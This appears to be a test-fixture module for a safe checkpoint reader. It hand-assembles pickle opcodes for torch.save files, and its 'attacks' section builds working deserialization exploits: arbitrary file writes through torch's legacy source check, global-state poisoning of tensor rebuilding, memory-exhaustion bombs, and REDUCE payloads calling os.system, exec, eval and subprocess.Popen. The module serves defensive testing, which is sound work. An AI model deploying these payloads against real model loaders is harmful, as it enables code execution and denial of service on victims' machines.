"""
Checkpoint files written opcode by opcode, for the tests of the official-file reader (`cocoop_hf.official_pickle`):
the attacks that worked on a restricted unpickler (BUILD on allowed globals, REDUCE with attacker-sized arguments,
torch's legacy source check), plus well-formed files in both `torch.save` layouts to embed them in.
"""

import math
import pickle
import struct
import zipfile


# torch/serialization.py `_legacy_save`: what precedes the object in a legacy file.
LEGACY_MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
LEGACY_SYS_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def proto(version: int = 2) -> bytes:
    return pickle.PROTO + bytes([version])


def global_(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def text(value: str) -> bytes:
    data = value.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def integer(value: int) -> bytes:
    if 0 <= value < 256:
        return pickle.BININT1 + bytes([value])
    if -(2**31) <= value < 2**31:
        return pickle.BININT + struct.pack("<i", value)
    data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return pickle.LONG1 + bytes([len(data)]) + data


def tuple_(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def dict_(*pairs: tuple[bytes, bytes]) -> bytes:
    return pickle.EMPTY_DICT + pickle.MARK + b"".join(key + value for key, value in pairs) + pickle.SETITEMS


def call(function: bytes, *args: bytes) -> bytes:
    """`function(*args)` through REDUCE."""
    return function + tuple_(*args) + pickle.REDUCE


def set_attributes(target: bytes, **attributes: bytes) -> bytes:
    """BUILD with a slot state: `setattr(target, name, value)` for each attribute, as pickle.py does."""
    state = tuple_(pickle.NONE, dict_(*((text(name), value) for name, value in attributes.items())))
    return target + state + pickle.BUILD


def contiguous_strides(shape: tuple) -> tuple:
    strides, step = [], 1
    for size in reversed(shape):
        strides.insert(0, step)
        step *= size
    return tuple(strides)


def half_tensor(key: str, numel: int, size: tuple, stride: tuple, offset: int = 0, legacy: bool = False) -> bytes:
    """`torch._utils._rebuild_tensor_v2` of an fp16 storage, as `torch.save` writes it."""
    storage_id = [text("storage"), global_("torch", "HalfStorage"), text(key), text("cpu"), integer(numel)]
    if legacy:
        storage_id.append(pickle.NONE)  # view_metadata
    return call(
        global_("torch._utils", "_rebuild_tensor_v2"),
        tuple_(*storage_id) + pickle.BINPERSID,
        integer(offset),
        tuple_(*map(integer, size)),
        tuple_(*map(integer, stride)),
        pickle.NEWFALSE,
        call(global_("collections", "OrderedDict")),
    )


def checkpoint_object(state_dict_items: bytes, **extra: bytes) -> bytes:
    """`{"state_dict": {...}, "epoch": 1, **extra}` (the items of the state dict given as key/value opcodes)."""
    pairs = [(text("state_dict"), pickle.EMPTY_DICT + pickle.MARK + state_dict_items + pickle.SETITEMS)]
    pairs.append((text("epoch"), integer(1)))
    pairs += [(text(name), value) for name, value in extra.items()]
    return dict_(*pairs)


def legacy_file(main_pickle: bytes, storages: dict[str, bytes] | None = None, element_size: int = 2) -> bytes:
    """A legacy `torch.save` stream around `main_pickle` (PROTO ... STOP) with raw storages."""
    storages = storages or {}
    data = pickle.dumps(LEGACY_MAGIC_NUMBER, protocol=2) + pickle.dumps(1001, protocol=2)
    data += pickle.dumps(LEGACY_SYS_INFO, protocol=2) + main_pickle + pickle.dumps(sorted(storages), protocol=2)
    for key in sorted(storages):
        data += struct.pack("<q", len(storages[key]) // element_size) + storages[key]
    return data


def write_zip_file(path, data_pkl: bytes, storages: dict[str, bytes] | None = None) -> None:
    """A `torch.save` zip archive: `archive/data.pkl`, `archive/byteorder`, `archive/data/<key>`."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", "little")
        for key, data in (storages or {}).items():
            archive.writestr(f"archive/data/{key}", data)
        archive.writestr("archive/version", "3\n")


# ---------------------------------------------------------------------------------------------- the attacks


def dump_patches_attack(target: str) -> bytes:
    """
    Legacy file: set `collections.Counter.dump_patches = True` and `Counter.__name__ = target` by BUILD, then a
    `module` persistent id whose source differs from Counter's: torch's `_check_container_source` writes
    `<target>.patch`.
    """
    main = proto(2) + global_("collections", "Counter") + pickle.BINPUT + b"\x00"
    main += pickle.NONE + dict_((text("dump_patches"), pickle.NEWTRUE), (text("__name__"), text(target)))
    main += pickle.TUPLE2 + pickle.BUILD + pickle.POP
    main += tuple_(text("module"), pickle.BINGET + b"\x00", text("evil.py"), text("written by the file\n"))
    main += pickle.BINPERSID + pickle.STOP
    return legacy_file(main)


def defaults_attack(shape: tuple) -> bytes:
    """
    data.pkl of a zip file: give `torch._utils._rebuild_tensor_v2` the default `metadata={"neg": True}`, so that
    every later tensor torch rebuilds in the process carries the negative bit, then a plain checkpoint.
    """
    negative = tuple_(dict_((text("neg"), pickle.NEWTRUE)))
    tensor = half_tensor("0", math.prod(shape), shape, contiguous_strides(shape))
    return (
        proto(2)
        + set_attributes(global_("torch._utils", "_rebuild_tensor_v2"), __defaults__=negative)
        + pickle.POP
        + checkpoint_object(text("ctx") + tensor)
        + pickle.STOP
    )


def bytearray_attack(nbytes: int = 6 * 2**30) -> bytes:
    """A legacy file of < 200 bytes whose object is `bytearray(nbytes)`."""
    return legacy_file(proto(2) + call(global_("__builtin__", "bytearray"), integer(nbytes)) + pickle.STOP)


def memo_attack(index: int = 2**26) -> bytes:
    """A legacy file storing memo entry `index` first: C's unpickler grows its memo table to 2 * index slots."""
    return legacy_file(proto(2) + pickle.NONE + pickle.LONG_BINPUT + struct.pack("<I", index) + pickle.STOP)


def declared_length_attack(length: int = 2**40) -> bytes:
    """A legacy file with a BINBYTES8 opcode claiming `length` bytes (an unpickler may allocate them first)."""
    return legacy_file(proto(4) + pickle.BINBYTES8 + struct.pack("<Q", length) + b"x" * 16 + pickle.STOP)


def set_flood_attack(count: int) -> bytes:
    """A legacy file of `count` one-byte EMPTY_SET opcodes in a list: ~216 bytes of memory per byte of file."""
    return legacy_file(proto(4) + pickle.MARK + pickle.EMPTY_SET * count + pickle.LIST + pickle.STOP)


def command_payloads(marker: str) -> dict[str, bytes]:
    """REDUCE payloads that run a command or code when unpickled, each creating `marker`."""
    return {
        "os_system": call(global_("os", "system"), text(f"touch {marker}")),
        "posix_system": call(global_("posix", "system"), text(f"touch {marker}")),
        "exec": call(global_("builtins", "exec"), text(f"open({marker!r}, 'w').close()")),
        "eval": call(global_("__builtin__", "eval"), text(f"open({marker!r}, 'w').close()")),
        "popen": call(global_("subprocess", "Popen"), tuple_(text("touch"), text(marker))),
        "getattr_chain": call(
            call(global_("builtins", "getattr"), global_("os", "system"), text("__call__")), text(f"touch {marker}")
        ),
    }
